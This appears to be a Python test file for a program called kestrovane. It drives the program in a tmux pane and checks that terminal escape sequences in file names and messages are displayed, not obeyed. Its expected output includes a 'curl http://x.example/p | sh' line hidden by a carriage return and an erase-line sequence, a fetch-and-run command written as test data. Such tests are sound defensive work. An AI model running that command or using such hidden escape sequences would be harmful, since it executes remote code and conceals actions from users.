"""Runs the built program in a tmux pane, a terminal that obeys control sequences and answers
queries, and lists, encodes and echoes text made to drive it: the terminal must show that text,
never obey it, whether the keys are typed there or piped in. A bare pseudo-terminal
(terminal_test.py) answers no queries.

Usage: terminal_controls_test.py [COMMAND PREFIX ...] path/to/kestrovane
"""
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import time

from checks import CONTROLLING_FILE, MENU_END, Checks, coded, folder_contents, program_command

TIMEOUT = 10
# Typed at the prompts: names and a message that would set the window's title.
LISTED_NAME = "q\x1b]2;file\x07.txt"
TYPED_NAME = "t\x1b]2;named\x07"
TYPED_MESSAGE = "\x1b]2;typed title\x07hello"
# Each step: the text the screen must show (once more than before it), then the line typed.
STEPS = [
    (MENU_END.strip(), "E"),
    ("the file you want to encode:", LISTED_NAME),
    ("Do you want to encode this file? Y/N", "y"),
    ("Press any Key and then Enter to return to main menu", "k"),
    (MENU_END.strip(), "M"),
    ("(no spaces):", TYPED_NAME),
    ("Please enter your message", TYPED_MESSAGE),
    ("Do you want to encode this Message? Y/N", "y"),
    ("Press any Key and then Enter to return to the menu", "k"),
    (MENU_END.strip(), "X"),
    ("exit status 0", None),
]
# What the screen shows of each, as `cat -v` would show it.
SHOWN = [
    ("the listing's queries", "version ^[[>0q, attributes ^[[c."),
    ("the listing's title", "^[]2;a file's title^G"),
    ("the wiped line", "curl http://x.example/p | sh^M^[[2KDear diary, all quiet."),
    ("the coded echo's wiped line and title",
     "Ke[^[^Mhs | p/2lpm1x2.x//:ptth lr5c^G2lt3t s'2l3f 1;e]^["),
    ("the listing's last carriage return", "Signed^M\nDo you want to encode"),
    ("the coded echo's last carriage return", "r12D^M\nYour encoded file"),
    ("the file's output name", "saved as: q^[]2;file^G.enc"),
    ("the typed message", "the message you just typed was:\n ^[]2;typed title^Ghello"),
    ("the coded message", "Encoded Output:\n4ll2h^G2lt3t d2pyt;e]^["),
    ("the message's name", "saved as: t^[]2;named^G.enc"),
]


class Pane:
    """A tmux server of its own, so the test neither sees nor disturbs anyone else's sessions."""

    def __init__(self, folder, command):
        # One for each pane: a server just killed may still hold its socket's name.
        self.socket = f"kestrovane-controls-{os.getpid()}-{os.path.basename(folder)}"
        shell = f"{command}; echo exit status $?; sleep 600"
        self.tmux("new-session", "-d", "-x", "200", "-y", "80", "-c", folder, shell)
        self.title = self.current_title()

    def tmux(self, *arguments):
        # The pane's command runs in the user's shell, which for a service account such as
        # nobody is nologin: a shell of its own keeps the pane alive for anyone.
        return subprocess.run(["tmux", "-L", self.socket, "-f", "/dev/null"] + list(arguments),
                              capture_output=True, text=True, check=True,
                              env=dict(os.environ, SHELL="/bin/sh")).stdout

    def current_title(self):
        return self.tmux("display-message", "-p", "#{pane_title}").strip()

    def screen(self):
        """The whole pane, its history included, with wrapped lines joined."""
        return self.tmux("capture-pane", "-p", "-J", "-S", "-")

    def wait_for(self, text, count):
        deadline = time.monotonic() + TIMEOUT
        while time.monotonic() < deadline:
            if self.screen().count(text) >= count:
                return True
            time.sleep(0.1)
        return False

    def type_line(self, keys):
        self.tmux("send-keys", "-l", keys)
        self.tmux("send-keys", "Enter")

    def close(self):
        subprocess.run(["tmux", "-L", self.socket, "kill-server"], capture_output=True)


def run_session(command, piped, checks):
    """Runs the steps in a pane of their own and checks what it shows: with the keys typed at each
    prompt, or piped in, which leaves the screen a terminal all the same."""
    how = "piped" if piped else "typed"
    if piped:
        keys = "".join(keys + "\n" for _, keys in STEPS if keys is not None)
        command = f"printf %s {shlex.quote(keys)} | {command}"
    with tempfile.TemporaryDirectory() as folder:
        with open(os.path.join(folder, LISTED_NAME), "wb") as f:
            f.write(CONTROLLING_FILE)
        pane = Pane(folder, command)
        try:
            seen, titles = {}, {pane.title}
            for wanted, keys in STEPS:
                seen[wanted] = seen.get(wanted, 0) + 1
                if not pane.wait_for(wanted, seen[wanted]):
                    checks.equal(f"{how}: shown: {wanted!r}", pane.screen()[-600:], wanted)
                    break
                titles.add(pane.current_title())
                if keys is not None and not piped:
                    pane.type_line(keys)
            screen = pane.screen()
            checks.equal(f"{how}: the window titles at each step", titles, {pane.title})
            for what, shown in SHOWN:
                checks.equal(f"{how}: the screen shows {what}", shown in screen, True)
            # A terminal's answers typed into the program would be echoed, and read as answers.
            for reply in ("tmux 3", "?1;2c", "Error! Try again"):
                checks.equal(f"{how}: the screen holds no {reply!r}", reply in screen, False)
        finally:
            pane.close()
        checks.equal(f"{how}: files", folder_contents(folder),
                     {LISTED_NAME: CONTROLLING_FILE,
                      LISTED_NAME.replace(".txt", ".enc"): coded(CONTROLLING_FILE),
                      TYPED_NAME + ".enc": coded(TYPED_MESSAGE.encode())})


def main():
    if not shutil.which("tmux"):
        print("skipped: tmux is not installed")
        return 77
    command = "env LANG=C.UTF-8 " + shlex.join(program_command(sys.argv[1:]))
    checks = Checks()
    for piped in (False, True):
        run_session(command, piped, checks)
    return checks.finish()


if __name__ == "__main__":
    sys.exit(main())
